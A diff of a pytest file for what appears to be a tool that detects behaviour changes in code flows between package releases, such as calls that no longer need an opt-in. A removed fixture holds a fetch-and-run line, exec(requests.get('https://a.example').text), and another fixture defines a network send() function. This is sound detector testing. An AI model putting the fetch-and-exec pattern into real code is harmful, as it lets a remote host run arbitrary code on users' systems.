@@ -120,37 +120,24 @@ def test_a_flow_that_is_moved_to_where_it_runs_sooner_is_another(tmp_path: Path)
     assert len(set.union(*found)) == sum(map(len, found)) == len(places) + 1
 
 
-def test_a_function_that_another_module_calls_now_without_asking_is_another(
-    tmp_path: Path,
+@pytest.mark.parametrize(
+    ("calling", "is_the_same"),
+    [
+        ("from .t import send\nif os.environ.get('OPT_IN'):\n    send()\n", True),
+        ("from . import t\nfor each in range(3):\n    t.send()\n", True),
+        ("from . import t\n", False),
+    ],
+)
+def test_of_a_function_counts_whether_others_call_it_but_not_how(
+    tmp_path: Path, calling: str, *, is_the_same: bool
 ) -> None:
     code = "import os, requests\ndef send():\n" + "    " + ALONE.splitlines()[1] + "\n"
-    asks = "import os\nfrom .t import send\nif os.environ.get('OPT_IN'):\n    send()\n"
-    does_not = "from .t import send\nsend()\n"
+    called = {"sample/__init__.py": "from .t import send\nsend()\n", "sample/t.py": code}
+    other = {"sample/__init__.py": f"import os\n{calling}", "sample/t.py": code}
 
-    old = prints(tmp_path / "old", {"sample/__init__.py": asks, "sample/t.py": code})
-    new = prints(tmp_path / "new", {"sample/__init__.py": does_not, "sample/t.py": code})
+    old, new = prints(tmp_path / "old", other), prints(tmp_path / "new", called)
 
-    assert not old & new
-
-
-@pytest.mark.parametrize("condition", ["settings.AUTO", "AUTO", "not own"])
-def test_a_call_that_waits_for_another_constant_now_is_another(
-    tmp_path: Path, condition: str
-) -> None:
-    def release(value: str) -> dict[str, str]:
-        return {
-            "sample/__init__.py": "from . import settings\nfrom .settings import AUTO\n"
-            f"from .update import update\nown = {value != 'True'}\nif {condition}:\n    update()\n",
-            "sample/settings.py": f"AUTO = {value}\nOTHER = 1\n",
-            "sample/update.py": "import requests\n\ndef update():\n"
-            "    exec(requests.get('https://a.example').text)\n",
-        }
-
-    old = prints(tmp_path / "old", release("False"))
-    other = {**release("False"), "sample/settings.py": "AUTO = False\nOTHER = 2\n"}
-
-    assert prints(tmp_path / "new", release("True")) != old
-    assert prints(tmp_path / "same", other) == old
+    assert (old == new) is is_the_same
 
 
 def test_what_is_written_to_a_file_and_run_later_belongs_to_the_flow(tmp_path: Path) -> None:
